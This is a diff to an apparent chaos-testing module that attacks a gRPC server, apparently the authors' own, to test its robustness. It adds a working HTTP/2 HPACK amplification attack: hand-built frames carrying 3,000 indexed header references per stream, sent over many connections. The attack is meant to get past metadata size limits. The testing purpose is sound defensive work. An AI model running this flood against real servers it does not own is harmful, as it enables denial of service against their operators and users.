@@ -5,6 +5,7 @@ python -m benchmarks.chaos.attacks oversized 127.0.0.1:50051 5
 
 import random
 import socket
+import struct
 import sys
 import threading
 import time
@@ -90,8 +91,8 @@ def idle(address: str, seconds: float) -> None:
 
 def headers(address: str, seconds: float) -> None:
     """Calls with as much metadata as gRPC lets through, and other than it should be."""
-    metadata = [(f"x-{at}", "a" * 200) for at in range(30)]
-    metadata += [("x-request-id", "b" * 5_000), ("authorization", "Bearer " + "c" * 1_000)]
+    metadata = [(f"x-{at}", "a" * 100) for at in range(30)]
+    metadata += [("x-request-id", "b" * 2_000), ("authorization", "Bearer " + "c" * 1_000)]
     until = time.monotonic() + seconds
     with _channel(address) as channel:
         info = channel.unary_unary(f"{SERVICE}/GetModelInfo")
@@ -100,10 +101,46 @@ def headers(address: str, seconds: float) -> None:
                 info(b"", metadata=metadata, timeout=2)
 
 
+def entries(address: str, seconds: float) -> None:
+    """Calls with 3,000 entries of metadata, a byte each, from who never heard of our bounds."""
+    host, _, port = address.rpartition(":")
+    # RFC 7541: an entry in the table (6.2.1), then 3,000 times its place there (6.1).
+    block = b"".join(b"\x00" + _sized(name) + _sized(value) for name, value in _HEADERS)
+    block += b"\x40" + _sized(b"a") + _sized(b"") + b"\xbe" * 3_000
+    # Its settings, of which it has none, are all that it says beside: it takes no note of ours.
+    said = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"")
+    said += b"".join(_frame(1, 4, stream, block) for stream in range(1, 101, 2))
+    with ExitStack() as stack:
+        for _ in range(20):
+            with suppress(OSError):
+                opened = socket.create_connection((host, int(port)), timeout=1)
+                stack.enter_context(opened).sendall(said)
+        time.sleep(seconds)
+
+
 ATTACKS: dict[str, Callable[[str, float], None]] = {
     each.__name__: each
-    for each in (hello, unsent, oversized, garbage, resets, unread, idle, headers)
+    for each in (hello, unsent, oversized, garbage, resets, unread, idle, headers, entries)
 }
+
+_HEADERS = (
+    (b":method", b"POST"),
+    (b":scheme", b"http"),
+    (b":path", f"{SERVICE}/Rank".encode()),
+    (b":authority", b"localhost"),
+    (b"content-type", b"application/grpc"),
+    (b"te", b"trailers"),
+)
+
+
+def _sized(text: bytes) -> bytes:
+    """A string of HPACK, shorter than 127."""
+    return bytes([len(text)]) + text
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    """A frame of HTTP/2 (RFC 9113, 4.1)."""
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
 
 
 def _channel(address: str) -> Any:
